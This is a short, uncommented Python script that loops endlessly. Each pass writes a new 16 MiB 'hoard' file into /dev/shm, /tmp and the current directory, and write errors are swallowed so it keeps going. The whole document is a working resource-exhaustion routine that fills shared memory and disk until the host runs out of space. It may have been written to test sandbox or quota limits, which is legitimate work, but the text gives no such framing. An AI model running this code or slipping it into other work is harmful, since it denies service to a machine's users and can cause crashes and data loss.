import itertools

block = b"x" * (1 << 20)
for number in itertools.count():
    for place in ("/dev/shm", "/tmp", "."):
        try:
            with open(f"{place}/hoard-{number}", "wb") as file:
                for _ in range(16):
                    file.write(block)
        except OSError:
            pass
